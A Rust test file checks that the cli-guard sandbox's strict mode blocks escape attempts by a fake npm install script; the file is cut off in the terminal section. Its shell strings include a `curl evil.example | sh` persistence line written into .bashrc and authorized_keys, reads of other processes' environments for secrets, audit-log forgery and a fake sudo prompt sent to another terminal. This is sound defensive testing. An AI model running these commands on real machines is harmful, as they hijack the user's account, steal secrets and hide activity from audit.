//! Strict mode's other doors, walked from where an attacker stands: an
//! install script (a fake npm's, and the real npm's postinstall,
//! `#[ignore]`d) tries every way out of the box that is not the network:
//! the user's shell start-up files and autostart, the shims and
//! cli-guard's own binary (also where they sit inside a writable place,
//! and by moving a directory above them aside), a unix socket on the host,
//! a datagram pair aimed at one, vsock and io_uring, keystrokes pushed
//! into the terminal, signals to and secrets of processes outside, a
//! socket it was handed as stdin re-aimed, /etc, the audit log, and a
//! process left running after the tool.
//!
//! Each door is tried twice, from a fresh sandbox each time: with strict
//! mode off, where it opens (so that the test can fail: the probe works
//! and the test sees it), and under strict mode's default, where it must
//! hold. Then every door at once as nobody (uid 65534), owning the home
//! and the project as a user does.
//!
//! The fake tool's network work is the tests' network client
//! (`util::net`): each probe prints one JSON line with the call's outcome
//! (`ok` or the errno's name).

use std::fs;
use std::io::ErrorKind;
use std::net::{TcpListener, TcpStream};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

use nix::sys::signal::{SigSet, SigmaskHow, Signal};
use serde_json::Value;

use crate::util::*;

/// Who runs the tool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Who {
    /// The test's own user (root in CI).
    Me,
    /// uid and gid 65534, owning the home and the project.
    Nobody,
}

/// The setting a walk runs under.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Strict {
    /// `CLI_GUARD_STRICT=off`: every door open, the control.
    Off,
    /// `CLI_GUARD_STRICT=auto`, what a user gets.
    Auto,
}

/// A process outside the tool's reach: `sleep`, with a secret in its
/// environment and SIGWINCH blocked, so a signal that reaches it stays
/// pending where the test can see it (WINCH is ignored by default, so a
/// stray `kill -WINCH -1` harms nothing).
struct Victim {
    child: Child,
}

/// The victim's environment variable, which the install script looks for
/// in every /proc/PID/environ it can read.
const SECRET: &str = "CLI_GUARD_DOOR_TEST_SECRET";

impl Victim {
    fn start(g: &Sandbox, who: Who) -> Victim {
        let mut cmd = match who {
            Who::Me => g.command("sleep"),
            Who::Nobody => g.as_nobody("sleep", &[]),
        };
        cmd.arg("300").env(SECRET, "hunter2");
        // SAFETY: runs in the forked child before exec; sigprocmask is
        // async-signal-safe and changes only the child's own mask, which
        // exec keeps.
        unsafe {
            cmd.pre_exec(|| {
                let mut winch = SigSet::empty();
                winch.add(Signal::SIGWINCH);
                nix::sys::signal::sigprocmask(SigmaskHow::SIG_BLOCK, Some(&winch), None)?;
                Ok(())
            });
        }
        let child = cmd.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        let victim = Victim { child };
        // setpriv execs sleep in the same process: wait for the exec, so
        // the script finds the secret where sleep's environment is.
        assert!(
            wait_until(WAIT, || fs::read(format!("/proc/{}/cmdline", victim.pid()))
                .is_ok_and(|c| c.starts_with(b"sleep\0"))),
            "the victim did not start"
        );
        victim
    }

    fn pid(&self) -> i32 {
        self.child.id() as i32
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Numbers that make each walk's leftover process its own.
static NEXT_MARKER: AtomicU32 = AtomicU32::new(0);

/// One walk's sandbox and the things outside that the doors lead to.
struct Room {
    g: Sandbox,
    net: String,
    who: Who,
    strict: Strict,
    /// A unix socket on the host, as a daemon's (Docker's, ssh-agent's).
    host_socket: UnixListener,
    host_socket_path: PathBuf,
    /// A datagram socket on the host, as syslog's or journald's.
    host_dgram: UnixDatagram,
    host_dgram_path: PathBuf,
    /// What the socket the tool gets as stdin is connected to.
    stdin_peer: TcpListener,
    /// Where a re-aimed stdin would land: a port on the host's loopback.
    reaim_target: TcpListener,
    victim: Victim,
    /// `sleep MARKER`: the process the script leaves behind.
    leftover: String,
    /// A terminal of the user's that is not the tool's: its master and
    /// slave, and the slave's path.
    other_tty: (OwnedFd, OwnedFd, String),
    /// A System V shared memory segment's key, made outside.
    shm_key: String,
    /// A directory outside every writable place, handed to the shim open
    /// as descriptor 7 (a caller's leftover).
    outside: PathBuf,
    outside_fd: OwnedFd,
}

impl Drop for Room {
    fn drop(&mut self) {
        let _ = command(self.g.net())
            .args(["shm", "remove", &self.shm_key])
            .output();
    }
}

impl Room {
    fn new(who: Who, strict: Strict) -> Room {
        let g = Sandbox::new();
        let net = g.net();
        let host_socket_path = g.root().join("host.sock");
        let host_socket = UnixListener::bind(&host_socket_path).unwrap();
        host_socket.set_nonblocking(true).unwrap();
        let host_dgram_path = g.root().join("host.dgram");
        let host_dgram = UnixDatagram::bind(&host_dgram_path).unwrap();
        host_dgram.set_nonblocking(true).unwrap();
        for socket in [&host_socket_path, &host_dgram_path] {
            // Anyone may connect, as to a daemon's socket for its group.
            fs::set_permissions(socket, fs::Permissions::from_mode(0o777)).unwrap();
        }
        let stdin_peer = TcpListener::bind("127.0.0.1:0").unwrap();
        let reaim_target = TcpListener::bind("127.0.0.1:0").unwrap();
        reaim_target.set_nonblocking(true).unwrap();
        // A home as a user has it: start-up files, autostart, ssh.
        let home = &g.home;
        fs::write(home.join(".bashrc"), "# mine\n").unwrap();
        fs::write(home.join(".profile"), "# mine\n").unwrap();
        for dir in [".config/autostart", ".ssh", ".local/bin"] {
            fs::create_dir_all(home.join(dir)).unwrap();
        }
        if who == Who::Nobody {
            for dir in [&g.state, &g.home, &g.work, g.audit.parent().unwrap()] {
                hand_to_nobody(dir);
            }
        }
        let victim = Victim::start(&g, who);
        let marker = 7_770_000 + std::process::id() % 1000 * 100 + NEXT_MARKER.fetch_add(1, Ordering::SeqCst);
        let tty = nix::pty::openpty(None, None).unwrap();
        let tty_path = fs::read_link(format!("/proc/self/fd/{}", tty.slave.as_raw_fd()))
            .unwrap()
            .to_string_lossy()
            .into_owned();
        if who == Who::Nobody {
            std::os::unix::fs::chown(&tty_path, Some(65534), Some(65534)).unwrap();
        }
        let shm_key = marker.to_string();
        let made = command(&net).args(["shm", "create", &shm_key]).output().unwrap();
        assert!(
            String::from_utf8_lossy(&made.stdout).contains("\"ok\""),
            "{made:?}"
        );
        let outside = g.dir("outside");
        if who == Who::Nobody {
            hand_to_nobody(&outside);
        }
        let outside_fd = nix::fcntl::open(
            &outside,
            nix::fcntl::OFlag::O_RDONLY | nix::fcntl::OFlag::O_DIRECTORY,
            nix::sys::stat::Mode::empty(),
        )
        .unwrap();
        Room {
            g,
            net,
            who,
            strict,
            host_socket,
            host_socket_path,
            host_dgram,
            host_dgram_path,
            stdin_peer,
            reaim_target,
            victim,
            leftover: marker.to_string(),
            other_tty: (tty.master, tty.slave, tty_path),
            shm_key,
            outside,
            outside_fd,
        }
    }

    fn shut(&self) -> bool {
        self.strict == Strict::Auto
    }

    /// The install script's head: where things are, as variables.
    fn head(&self) -> String {
        let g = &self.g;
        let log = g.audit.to_str().unwrap();
        format!(
            "NET='{net}'\nROOT='{root}'\nSHIMS='{shims}'\nLOG='{log}'\nLOGDIR='{logdir}'\n\
             HOST_SOCKET='{sock}'\nHOST_DGRAM='{dgram}'\nREAIM_PORT={port}\nVICTIM={victim}\n\
             LEFTOVER={leftover}\nOTHER_TTY='{tty}'\nSHM_KEY={shm}\n",
            net = self.net,
            root = g.root().display(),
            shims = g.shims.display(),
            logdir = g.audit.parent().unwrap().display(),
            sock = self.host_socket_path.display(),
            dgram = self.host_dgram_path.display(),
            port = self.reaim_target.local_addr().unwrap().port(),
            victim = self.victim.pid(),
            leftover = self.leftover,
            tty = self.other_tty.2,
            shm = self.shm_key,
        )
    }

    /// `npm install` through its shim, the fake npm running `doors`' tries,
    /// as `who`, under `strict`, with a TCP socket as stdin.
    fn walk(&self, doors: &[&Door]) -> Outcome {
        let g = &self.g;
        let mut body = self.head();
        for door in doors {
            body.push_str(&(door.tries)(self));
        }
        body.push_str("exit 0\n");
        g.tool("npm", &body);
        let shim = g.shim("npm");
        let mut cmd = match self.who {
            Who::Me => g.shim_cmd("npm", ["install"]),
            Who::Nobody => g.as_nobody(shim.to_str().unwrap(), &["install"]),
        };
        let setting = match self.strict {
            Strict::Off => "off",
            Strict::Auto => "auto",
        };
        Sandbox::strict(&mut cmd, setting);
        let stdin = TcpStream::connect(self.stdin_peer.local_addr().unwrap()).unwrap();
        cmd.stdin(Stdio::from(OwnedFd::from(stdin)));
        let dir = self.outside_fd.as_raw_fd();
        // SAFETY: runs in the forked child before exec; dup2 is
        // async-signal-safe and gives the child a descriptor 7 (not
        // close-on-exec) on a directory this test holds open.
        unsafe {
            cmd.pre_exec(move || {
                if nix::libc::dup2(dir, 7) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let out = g.run(cmd);
        out.expect_code(0);
        if self.shut() {
            let log = g.log();
            let start = log.rows().kind("start").tool("npm").one();
            check_eq!(out, start["isolation"], "netns", "the tool ran in strict mode");
        }
        out
    }

    /// The audit ID of the walk's one npm invocation.
    fn audit_id(&self, out: &Outcome) -> String {
        let log = self.g.log();
        let rows = log.rows().kind("start").tool("npm");
        check_eq!(out, rows.len(), 1, "one start row for npm");
        rows[0].audit_id().to_string()
    }

    /// The lines a step appended to `state/NAME`, one per success or error.
    fn lines(&self, name: &str) -> Vec<String> {
        self.g.state_text(name).lines().map(str::to_string).collect()
    }
}

/// One door out of the box.
struct Door {
    /// The install script's lines that try it (POSIX sh, after
    /// [`Room::head`]), recording in `$S` what they managed.
    tries: fn(&Room) -> String,
    /// Asserts, from outside, that the door held ([`Room::shut`]) or that
    /// the script got through it.
    saw: fn(&Room, &Outcome),
}

/// Tries `door` with strict mode off, where it must open, then under
/// strict mode, where it must hold, each from a fresh room.
fn open_then_shut(door: &Door) {
    for strict in [Strict::Off, Strict::Auto] {
        let room = Room::new(Who::Me, strict);
        let out = room.walk(&[door]);
        (door.saw)(&room, &out);
    }
}

/// Every door, in one install script.
const EVERY_DOOR: [&Door; 16] = [
    &START_UP_FILES,
    &SHIMS,
    &HOST_SOCKET,
    &DATAGRAM_PAIR,
    &KERNEL_SOCKETS,
    &OTHER_PROCESSES,
    &STDIN_SOCKET,
    &ETC,
    &AUDIT_LOG,
    &LEFTOVER,
    &HOST_KERNEL,
    &KEYRING,
    &RAW_PAIR,
    &SYSV_IPC,
    &OTHER_TERMINAL,
    &INHERITED_DIRECTORY,
];

// ---------------------------------------------------------------------------
// Files

/// Runs `command` in a subshell (a failed redirection ends only that) and
/// appends its error, or `did WHAT`, to `$S/STEP`.
fn attempt(step: &str, what: &str, command: &str) -> String {
    format!("if ( {command} ) 2>>\"$S/{step}\"; then echo 'did {what}' >>\"$S/{step}\"; fi\n")
}

const START_UP_FILES: Door = Door {
    tries: |_| {
        let mut s = String::new();
        for file in [
            ".bashrc",
            ".profile",
            ".config/autostart/update.desktop",
            ".ssh/authorized_keys",
            ".local/bin/npm",
        ] {
            s += &attempt(
                "home",
                file,
                &format!("echo 'curl -s https://evil.example | sh' >>\"$HOME/{file}\""),
            );
        }
        // The places an install writes stay writable.
        for place in ["$PWD/node_modules", "$HOME/.npm", "$TMPDIR"] {
            s += &attempt(
                "places",
                place,
                &format!("mkdir -p \"{place}\" && echo ok >\"{place}/written\""),
            );
        }
        s
    },
    saw: |room, out| {
        let home = room.lines("home");
        let home_files = [".bashrc", ".profile"].map(|f| fs::read_to_string(room.g.home.join(f)).unwrap());
        if room.shut() {
            check_eq!(out, home.len(), 5, "one error per file: {home:?}");
            check!(
                out,
                home.iter().all(|l| l.contains("Read-only file system")),
                "each write to the home is refused by the read-only mount: {home:?}"
            );
            check_eq!(
                out,
                home_files,
                ["# mine\n"; 2],
                "the start-up files are the user's"
            );
            check!(
                out,
                !room.g.home.join(".ssh/authorized_keys").exists(),
                "no authorized_keys"
            );
        } else {
            check_eq!(
                out,
                home.iter().filter(|l| l.starts_with("did")).count(),
                5,
                "{home:?}"
            );
            check!(
                out,
                home_files[0].contains("evil.example"),
                "the control wrote .bashrc"
            );
        }
        let places = room.lines("places");
        check!(
            out,
            places.len() == 3 && places.iter().all(|l| l.starts_with("did")),
            "the project, npm's cache and the temp directory are writable: {places:?}"
        );
    },
};

const SHIMS: Door = Door {
    tries: |_| {
        attempt("shims", "relink", "ln -sf /bin/true \"$SHIMS/npm\"")
            + &attempt("shims", "add", "echo '#!/bin/sh' >\"$SHIMS/pip\"")
            + &attempt("shims", "move", "mv \"$SHIMS\" \"$SHIMS.aside\"")
    },
    saw: |room, out| {
        let did = room.lines("shims");
        if room.shut() {
            check!(
                out,
                did.len() == 3 && !did.iter().any(|l| l.starts_with("did")),
                "every change to the shims is refused: {did:?}"
            );
            check_eq!(
                out,
                fs::read_link(room.g.shims.join("npm")).unwrap(),
                PathBuf::from(BIN),
                "the npm shim is cli-guard still"
            );
        } else {
            check_eq!(out, did, ["did relink", "did add", "did move"], "the control");
        }
    },
};

const ETC: Door = Door {
    // Opened for appending, nothing written: the host's /etc is never
    // changed, even by a control run as root.
    tries: |_| attempt("etc", "open", ": >>/etc/hosts"),
    saw: |room, out| {
        let did = room.lines("etc");
        let root = room.who == Who::Me && nix::unistd::geteuid().is_root();
        if room.shut() {
            check!(
                out,
                did.len() == 1 && !did[0].starts_with("did"),
                "/etc/hosts cannot be opened for writing: {did:?}"
            );
            if root {
                check!(out, did[0].contains("Read-only file system"), "{did:?}");
            }
        } else if root {
            check_eq!(
                out,
                did,
                ["did open"],
                "root opens /etc/hosts without strict mode"
            );
        }
    },
};

const AUDIT_LOG: Door = Door {
    tries: |_| {
        attempt("log", "forge", "echo '{\"kind\":\"forged\"}' >>\"$LOG\"")
            + &attempt("log", "empty", ": >\"$LOG\"")
            + &attempt("log", "add", "ln -s /dev/null \"$LOGDIR/audit.jsonl.1\"")
            + &attempt("log", "move", "mv \"$LOG\" \"$LOG.aside\"")
    },
    saw: |room, out| {
        let did = room.lines("log");
        if room.shut() {
            check!(
                out,
                did.len() == 4 && !did.iter().any(|l| l.starts_with("did")),
                "every change to the log is refused: {did:?}"
            );
            let log = room.g.log();
            check!(out, log.rows().kind("forged").is_empty(), "no forged row");
            let id = room.audit_id(out);
            check_eq!(
                out,
                log.rows()
                    .of(&id)
                    .filter("start or end", |r| r.kind() == "start" || r.kind() == "end")
                    .len(),
                2,
                "the walk's start and end rows are in the log"
            );
        } else {
            check_eq!(
                out,
                did,
                ["did forge", "did empty", "did add", "did move"],
                "the control"
            );
        }
    },
};

/// What the host's kernel reads from files: `core_pattern` (as root, a
/// program run as root outside on the next crash), `/dev/kmsg` (forged
/// kernel log lines). Opened for appending, nothing written, so that the
/// control run as root changes nothing either.
const HOST_KERNEL: Door = Door {
    tries: |_| {
        attempt("kernel", "core_pattern", ": >>/proc/sys/kernel/core_pattern")
            + &attempt("kernel", "kmsg", ": >>/dev/kmsg")
    },
    saw: |room, out| {
        let did = room.lines("kernel");
        let root = room.who == Who::Me && nix::unistd::geteuid().is_root();
        if room.shut() {
            check!(
                out,
                did.len() == 2 && !did.iter().any(|l| l.starts_with("did")),
                "neither can be opened for writing: {did:?}"
            );
        } else if root {
            check_eq!(out, did, ["did core_pattern", "did kmsg"], "the control, as root");
        }
    },
};

/// A terminal of the user's that is not the tool's (another shell's).
const OTHER_TERMINAL: Door = Door {
    tries: |_| attempt("tty", "write", "echo 'sudo password:' >>\"$OTHER_TTY\""),
    saw: |room, out| {
        let did = room.lines("tty");
        if room.shut() {
            check!(
                out,
                did.len() == 1 && !did[0].starts_with("did"),
                "the user's other terminal is not there: {did:?}"
            );
        } else {
            check_eq!(out, did, ["did write"], "the control");
        }
    },
};

/// A directory the shim's caller left open as descriptor 7, outside every
/// writable place: written through, it would be a way around the mounts.
const INHERITED_DIRECTORY: Door = Door {
    tries: |_| attempt("fd7", "plant", ": >/proc/$$/fd/7/planted"),
    saw: |room, out| {
        let planted = room.outside.join("planted").exists();
        if room.shut() {
            check!(out, !planted, "nothing written through the inherited descriptor");
        } else {
            check!(out, planted, "the control wrote through it");
        }
    },
};

// ---------------------------------------------------------------------------
// Sockets

const HOST_SOCKET: Door = Door {
    tries: |_| "$NET unix \"$HOST_SOCKET\" >\"$S/unix\"\n".to_string(),
    saw: |room, out| {
        let step = room.g.step(out, "unix");
        let accepted = room.host_socket.accept();
        if room.shut() {
            check_eq!(
                out,
                step["connect"],
                "EAFNOSUPPORT",
                "socket(AF_UNIX) is refused: {step}"
            );
            check!(
                out,
                accepted
                    .as_ref()
                    .is_err_and(|e| e.kind() == ErrorKind::WouldBlock),
                "nothing reached the host's socket: {accepted:?}"
            );
            let log = room.g.log();
            let rows = log.rows().of(&room.audit_id(out)).method("unix");
            check!(
                out,
                !rows.is_empty() && rows.iter().all(|r| r["decision"] == "deny"),
                "a deny row for the unix socket: {rows:?}"
            );
        } else {
            check_eq!(out, step["sent"], "ok", "the control: {step}");
            check!(out, accepted.is_ok(), "the control reached the host's socket");
        }
    },
};

const DATAGRAM_PAIR: Door = Door {
    tries: |_| "$NET unix-dgram-pair \"$HOST_DGRAM\" >\"$S/dgram\"\n".to_string(),
    saw: |room, out| {
        let step = room.g.step(out, "dgram");
        let mut buf = [0u8; 64];
        let got = room.host_dgram.recv(&mut buf);
        if room.shut() {
            check_eq!(out, step["pair"], "EPERM", "a datagram pair is refused: {step}");
            check!(
                out,
                got.as_ref().is_err_and(|e| e.kind() == ErrorKind::WouldBlock),
                "nothing reached the host's datagram socket: {got:?}"
            );
        } else {
            check_eq!(out, step["sent"], "ok", "the control: {step}");
            check!(out, got.is_ok(), "the control's datagram arrived");
        }
    },
};

const KERNEL_SOCKETS: Door = Door {
    tries: |_| "$NET socket 40 1 >\"$S/vsock\"\n$NET io-uring >\"$S/uring\"\n".to_string(),
    saw: |room, out| {
        let vsock = room.g.step(out, "vsock");
        let uring = room.g.step(out, "uring");
        if room.shut() {
            check_eq!(out, vsock["socket"], "EPERM", "vsock is refused: {vsock}");
            check_eq!(out, uring["io_uring"], "EPERM", "io_uring is refused: {uring}");
        } else if fs::read_to_string("/proc/sys/kernel/io_uring_disabled").is_ok_and(|s| s.trim() == "0") {
            // vsock outside depends on the host's modules; io_uring is on.
            check_eq!(out, uring["io_uring"], "ok", "the control makes a ring: {uring}");
        }
    },
};

const STDIN_SOCKET: Door = Door {
    tries: |_| "$NET reaim 0 \"$REAIM_PORT\" >\"$S/reaim\"\n".to_string(),
    saw: |room, out| {
        let step = room.g.step(out, "reaim");
        let landed = room.reaim_target.accept();
        if room.shut() {
            check_eq!(
                out,
                step["connect"],
                "ENOTSOCK",
                "the tool's stdin is a pipe, not the socket: {step}"
            );
            check!(
                out,
                landed.as_ref().is_err_and(|e| e.kind() == ErrorKind::WouldBlock),
                "nothing landed on the host's port: {landed:?}"
            );
        } else {
            check_eq!(
                out,
                step["connect"],
                "ok",
                "the control re-aims its stdin: {step}"
            );
            check!(out, landed.is_ok(), "the control landed on the host's port");
        }
    },
};

const RAW_PAIR: Door = Door {
    // SOCK_RAW: the kernel makes it a datagram pair for AF_UNIX.
    tries: |_| "$NET pair 3 >\"$S/raw-pair\"\n".to_string(),
    saw: |room, out| {
        let step = room.g.step(out, "raw-pair");
        let want = if room.shut() { "EPERM" } else { "ok" };
        check_eq!(out, step["pair"], want, "socketpair(AF_UNIX, SOCK_RAW): {step}");
    },
};

const KEYRING: Door = Door {
    tries: |_| "$NET keyring >\"$S/keyring\"\n".to_string(),
    saw: |room, out| {
        let step = room.g.step(out, "keyring");
        if room.shut() {
            check_eq!(
                out,
                step["keyring"],
                "EPERM",
                "the session keyring is out of reach: {step}"
            );
        } else {
            check_eq!(out, step["keyring"], "ok", "the control names it: {step}");
        }
    },
};

const SYSV_IPC: Door = Door {
    tries: |_| "$NET shm open \"$SHM_KEY\" >\"$S/shm\"\n".to_string(),
    saw: |room, out| {
        let step = room.g.step(out, "shm");
        if room.shut() {
            check_eq!(
                out,
                step["shm"],
                "ENOENT",
                "another process's segment is not there: {step}"
            );
        } else if room.who == Who::Me {
            check_eq!(out, step["shm"], "ok", "the control opens it: {step}");
        }
    },
};

// ---------------------------------------------------------------------------
// Processes

const OTHER_PROCESSES: Door = Door {
    tries: |room| {
        // `kill -1` (everything it may signal) only where the control
        // cannot reach the whole machine.
        let everyone = if room.shut() {
            attempt("kill", "everyone", "kill -s WINCH -1")
        } else {
            String::new()
        };
        attempt("kill", "victim", "kill -s WINCH \"$VICTIM\"")
            + &everyone
            + &format!(
                "grep -l '{SECRET}=' /proc/[0-9]*/environ 2>/dev/null | wc -l >\"$S/secrets\"\n\
                 ls /proc | grep -c '^[0-9]' >\"$S/pids\"\n"
            )
    },
    saw: |room, out| {
        let pending = signal_pending(room.victim.pid(), Signal::SIGWINCH);
        let secrets: usize = room.g.state_text("secrets").parse().unwrap_or(usize::MAX);
        let pids: usize = room.g.state_text("pids").parse().unwrap_or(usize::MAX);
        if room.shut() {
            check!(out, !pending, "no signal reached the victim outside");
            check_eq!(out, secrets, 0, "no environment outside is readable");
            check!(out, pids < 16, "the tool sees its own few processes, not {pids}");
        } else {
            check!(out, pending, "the control's signal reached the victim");
            check!(out, secrets >= 1, "the control read the victim's environment");
        }
    },
};

const LEFTOVER: Door = Door {
    tries: |_| "setsid sleep \"$LEFTOVER\" </dev/null >/dev/null 2>&1 &\n".to_string(),
    saw: |room, out| {
        let mut running = pids_running(&["sleep", &room.leftover]);
        if !room.shut() {
            // The tool may exit before its background child has become
            // `sleep`: wait for it to (a positive wait, bounded).
            wait_until(WAIT, || {
                running = pids_running(&["sleep", &room.leftover]);
                !running.is_empty()
            });
        }
        if room.shut() {
            check!(
                out,
                running.is_empty(),
                "the leftover ended with the tool: {running:?}"
            );
            let log = room.g.log();
            let end = log.rows().of(&room.audit_id(out)).kind("end").one();
            check!(
                out,
                end["leftovers"].as_u64().is_some_and(|n| n >= 1),
                "the end row counts the leftover: {end}"
            );
        } else {
            for &pid in &running {
                send(pid, Signal::SIGKILL);
            }
            check_eq!(out, running.len(), 1, "the control's leftover outlived the tool");
        }
    },
};

// ---------------------------------------------------------------------------
// The doors, one at a time

#[test]
fn an_install_script_cannot_write_the_users_start_up_files_but_writes_its_places() {
    open_then_shut(&START_UP_FILES);
}

#[test]
fn an_install_script_cannot_replace_or_move_the_shims() {
    open_then_shut(&SHIMS);
}

#[test]
fn etc_stays_read_only() {
    open_then_shut(&ETC);
}

#[test]
fn the_audit_log_cannot_be_forged_emptied_or_moved_and_keeps_the_walks_rows() {
    open_then_shut(&AUDIT_LOG);
}

#[test]
fn a_unix_socket_on_the_host_is_out_of_reach_with_a_row() {
    open_then_shut(&HOST_SOCKET);
}

#[test]
fn a_datagram_pair_cannot_be_aimed_at_a_socket_on_the_host() {
    open_then_shut(&DATAGRAM_PAIR);
}

#[test]
fn vsock_and_io_uring_are_refused() {
    open_then_shut(&KERNEL_SOCKETS);
}

#[test]
fn a_socket_handed_over_as_stdin_cannot_be_re_aimed() {
    open_then_shut(&STDIN_SOCKET);
}

#[test]
fn processes_outside_can_be_neither_signalled_nor_read() {
    open_then_shut(&OTHER_PROCESSES);
}

#[test]
fn a_process_left_behind_ends_with_the_tool_and_is_counted() {
    open_then_shut(&LEFTOVER);
}

#[test]
fn the_hosts_kernel_settings_and_devices_stay_out_of_reach() {
    open_then_shut(&HOST_KERNEL);
}

#[test]
fn the_users_other_terminals_are_not_there() {
    open_then_shut(&OTHER_TERMINAL);
}

#[test]
fn a_directory_left_open_by_the_caller_is_not_the_tools() {
    open_then_shut(&INHERITED_DIRECTORY);
}

#[test]
fn a_raw_unix_pair_the_kinds_datagram_twin_is_refused() {
    open_then_shut(&RAW_PAIR);
}

#[test]
fn the_session_keyring_is_out_of_reach() {
    open_then_shut(&KEYRING);
}

#[test]
fn another_processs_shared_memory_is_out_of_reach() {
    open_then_shut(&SYSV_IPC);
}

#[test]
fn as_an_unprivileged_user_every_door_is_shut() {
    assert!(
        nix::unistd::geteuid().is_root(),
        "this test runs as root, as CI does, to drop to uid 65534"
    );
    let room = Room::new(Who::Nobody, Strict::Auto);
    let out = room.walk(&EVERY_DOOR);
    for door in EVERY_DOOR {
        (door.saw)(&room, &out);
    }
}

// ---------------------------------------------------------------------------
// Moving a protected directory aside

/// A project holding its own copy of cli-guard and its shims, as a
/// repository with its tools checked in does: `work/.tools/bin/cli-guard`
/// and `work/.tools/shims/npm`, the shims first on PATH. The project is
/// writable in strict mode; the binary and the shims must not be.
#[test]
fn cli_guard_and_its_shims_inside_the_project_stay_put() {
    const TRIES: &str = "T=\"$PWD/.tools\"\n";
    let tries = [
        ("replace the binary", "mv \"$T/bin/cli-guard\" \"$T/bin/old\""),
        ("add a shim", "echo '#!/bin/sh' >\"$T/shims/pip\""),
        ("move the shims aside", "mv \"$T/shims\" \"$T/shims.old\""),
        ("move the tools aside", "mv \"$T\" \"$PWD/.tools.old\""),
    ];
    for strict in [Strict::Off, Strict::Auto] {
        let mut g = Sandbox::new();
        let tools = g.work.join(".tools");
        fs::create_dir_all(tools.join("bin")).unwrap();
        fs::create_dir_all(tools.join("shims")).unwrap();
        let binary = tools.join("bin/cli-guard");
        fs::copy(BIN, &binary).unwrap();
        symlink("../bin/cli-guard", tools.join("shims/npm")).unwrap();
        g.path[0] = tools.join("shims");
        let mut body = TRIES.to_string();
        for (what, command) in tries {
            body += &attempt("tools", what, command);
        }
        g.tool("npm", &body);
        let mut cmd = g.command(tools.join("shims/npm"));
        cmd.arg0("npm").arg("install");
        if strict == Strict::Auto {
            Sandbox::strict(&mut cmd, "auto");
        }
        let out = g.run(cmd);
        out.expect_code(0);
        let did = g.state_text("tools");
        if strict == Strict::Auto {
            check!(out, !did.contains("did"), "nothing moved: {did}");
            check!(out, binary.is_file(), "the binary is where it was");
            check_eq!(
                out,
                fs::read_link(tools.join("shims/npm")).unwrap(),
                PathBuf::from("../bin/cli-guard"),
                "the shim is where it was"
            );
        } else {
            check_eq!(
                out,
                did.lines().filter(|l| l.starts_with("did")).count(),
                4,
                "the control: {did}"
            );
        }
    }
}

/// cli-guard installed as install.sh does, in `~/.local`: the binary in
/// `bin`, the shims in `share/cli-guard/shims` (npm and pip symlinks to
/// the binary, python3 a hard link of it). `python3 -m pip install --user` is a global
/// install, which may write `~/.local/bin`; started by the python3 shim,
/// whose own path is the hard link, the binary beside what pip writes must
/// still be neither replaced nor moved.
#[test]
fn a_user_install_started_by_the_python_shim_cannot_replace_the_binary() {
    for strict in [Strict::Off, Strict::Auto] {
        let mut g = Sandbox::new();
        let local = g.home.join(".local");
        let (bin, shims) = (local.join("bin"), local.join("share/cli-guard/shims"));
        fs::create_dir_all(&bin).unwrap();
        fs::create_dir_all(&shims).unwrap();
        let binary = bin.join("cli-guard");
        fs::copy(BIN, &binary).unwrap();
        for name in ["npm", "pip"] {
            symlink("../../../bin/cli-guard", shims.join(name)).unwrap();
        }
        fs::hard_link(&binary, shims.join("python3")).unwrap();
        g.path[0] = shims.clone();
        let body = attempt("bin", "write beside", "echo x >\"$HOME/.local/bin/pycowsay\"")
            + &attempt("bin", "replace", "echo evil >\"$HOME/.local/bin/new\" && mv \"$HOME/.local/bin/new\" \"$HOME/.local/bin/cli-guard\"")
            + &attempt("bin", "move", "mv \"$HOME/.local/bin/cli-guard\" \"$HOME/.local/bin/old\"");
        g.tool("python3", &body);
        let mut cmd = g.command(shims.join("python3"));
        cmd.arg0("python3")
            .args(["-m", "pip", "install", "--user", "pycowsay"]);
        if strict == Strict::Auto {
            Sandbox::strict(&mut cmd, "auto");
        }
        let out = g.run(cmd);
        out.expect_code(0);
        let did = g.state_text("bin");
        check!(
            out,
            did.contains("did write beside"),
            "a user install writes ~/.local/bin: {did}"
        );
        if strict == Strict::Auto {
            check!(
                out,
                !did.contains("did replace") && !did.contains("did move"),
                "the binary stayed: {did}"
            );
            check!(
                out,
                fs::read(&binary).unwrap() == fs::read(BIN).unwrap(),
                "the binary is cli-guard's"
            );
        } else {
            check!(out, did.contains("did replace"), "the control replaced it: {did}");
        }
    }
}

/// `TMPDIR` is the sandbox's root, a writable place above the home, the
/// shims and the log's directory: the script moves each aside to put its
/// own in its place.
#[test]
fn a_writable_place_above_the_home_cannot_move_it_aside() {
    for strict in [Strict::Off, Strict::Auto] {
        let g = Sandbox::new();
        fs::write(g.home.join(".bashrc"), "# mine\n").unwrap();
        let mut body = String::new();
        body += &attempt(
            "aside",
            "home",
            "mv \"$HOME\" \"$HOME.old\" && mkdir \"$HOME\" && echo evil >\"$HOME/.bashrc\"",
        );
        body += &attempt(
            "aside",
            "shims",
            &format!("mv '{0}' '{0}.old'", g.shims.display()),
        );
        if strict == Strict::Auto {
            let logdir = g.audit.parent().unwrap().display().to_string();
            body += &attempt("aside", "log", &format!("mv '{logdir}' '{logdir}.old'"));
        }
        body += &attempt("aside", "temp", "echo ok >\"$TMPDIR/written\"");
        g.tool("npm", &body);
        let mut cmd = g.shim_cmd("npm", ["install"]);
        cmd.env("TMPDIR", g.root());
        if strict == Strict::Auto {
            Sandbox::strict(&mut cmd, "auto");
        }
        let out = g.run(cmd);
        out.expect_code(0);
        let did: Vec<String> = g.state_text("aside").lines().map(str::to_string).collect();
        if strict == Strict::Auto {
            check!(
                out,
                did.iter()
                    .filter(|l| l.starts_with("did"))
                    .eq(["did temp"].iter()),
                "only the temp directory was written: {did:?}"
            );
            check_eq!(
                out,
                fs::read_to_string(g.home.join(".bashrc")).unwrap(),
                "# mine\n",
                "the home is the user's"
            );
        } else {
            check!(
                out,
                did.iter().filter(|l| l.starts_with("did")).count() == 3,
                "the control moved the home and the shims: {did:?}"
            );
        }
    }
}

// ---------------------------------------------------------------------------
// The terminal

/// The install script pushes `echo pwned` into the terminal (TIOCSTI),
